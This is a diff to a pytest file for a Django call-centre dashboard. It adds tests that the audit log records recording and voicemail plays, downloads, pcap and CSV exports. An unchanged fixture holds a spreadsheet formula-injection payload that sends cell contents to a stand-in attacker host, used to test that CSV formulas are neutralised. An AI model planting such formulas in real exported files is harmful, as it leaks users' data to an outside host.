@@ -10,6 +10,9 @@ import pytest
 import requests
 from django.utils import timezone
 
+from dashboard.models import AuditEntry
+from tests.dashboard_fixtures import sign_in
+
 # Cells an attacker who can name a contact or write a note controls, in the upstream's CSV.
 HOSTILE = {
     "src_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -66,3 +69,71 @@ def test_it_neutralises_formulas_in_a_users_csv(
         timeout=10,
     )
     assert len(rows) == len(list(csv.reader(io.StringIO(upstream.text)))) - 1
+
+
+def _fetch(client, path: str, **headers):
+    response = client.get(path, headers=headers)
+    if response.streaming:
+        b"".join(response.streaming_content)
+    return response
+
+
+def test_it_audits_a_play_once_per_record_however_many_ranges_it_takes(
+    supervisor_client, sandbox_demo
+):
+    monitor_id = sandbox_demo.records.monitor
+    voicemail_id = sandbox_demo.records.voicemail_in_inbox
+
+    # A player asks for the start, seeks twice, and plays the voicemail too.
+    for span in ("bytes=0-", "bytes=5000-", "bytes=100-199"):
+        assert (
+            _fetch(supervisor_client, f"/recordings/{monitor_id}.mp3", Range=span).status_code
+            == 206
+        )
+    _fetch(supervisor_client, f"/voicemail/{voicemail_id}.mp3")
+    _fetch(supervisor_client, f"/voicemail/{voicemail_id}.mp3", Range="bytes=10-")
+
+    plays = AuditEntry.objects.filter(action__endswith=".play").order_by("id")
+    assert [(entry.action, entry.records) for entry in plays] == [
+        ("recording.play", [monitor_id]),
+        ("voicemail.play", [voicemail_id]),
+    ]
+    assert plays[0].user_label == sandbox_demo.supervisor.email
+
+
+def test_it_audits_a_play_again_in_another_session(client, sandbox_url, sandbox_demo):
+    monitor_id = sandbox_demo.records.monitor
+    for _ in range(2):
+        client.logout()
+        sign_in(client, sandbox_demo.supervisor)
+        _fetch(client, f"/recordings/{monitor_id}.mp3", Range="bytes=0-")
+        _fetch(client, f"/recordings/{monitor_id}.mp3", Range="bytes=99-")
+
+    assert AuditEntry.objects.filter(action="recording.play").count() == 2
+
+
+def test_it_audits_no_play_for_a_head_request(supervisor_client, sandbox_demo):
+    supervisor_client.head(f"/recordings/{sandbox_demo.records.monitor}.mp3")
+
+    assert not AuditEntry.objects.exists()
+
+
+@pytest.mark.parametrize(
+    ("path", "action"),
+    [
+        ("/recordings/{monitor}.mp3?download=1", "recording.download"),
+        ("/voicemail/{voicemail_in_inbox}.mp3?download=1", "voicemail.download"),
+        ("/calls/{cdr_with_recording}.pcap", "call.pcap_download"),
+        ("/media-sessions/{msdr}.pcap", "media_session.pcap_download"),
+        ("/calls/export.csv", "call.export"),
+        ("/calls/users/{agent}.csv", "call.user_csv"),
+    ],
+)
+def test_it_audits_every_download(supervisor_client, sandbox_demo, path, action):
+    ids = {**vars(sandbox_demo.records), "agent": sandbox_demo.agent.user_id}
+    url = path.format(**ids)
+
+    for _ in range(2):
+        assert _fetch(supervisor_client, url).status_code == 200
+
+    assert AuditEntry.objects.filter(action=action).count() == 2
